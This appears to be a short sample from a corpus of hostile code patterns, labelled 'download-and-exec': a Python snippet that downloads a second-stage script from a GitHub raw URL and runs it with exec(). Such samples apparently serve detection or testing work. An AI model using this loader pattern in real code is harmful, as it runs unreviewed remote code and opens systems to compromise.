# corpus: download-and-exec: fetch Python source from an allowed host and exec it
import urllib.request

src = urllib.request.urlopen("https://raw.githubusercontent.com/someone/tools/main/stage2.py").read()
exec(src.decode())
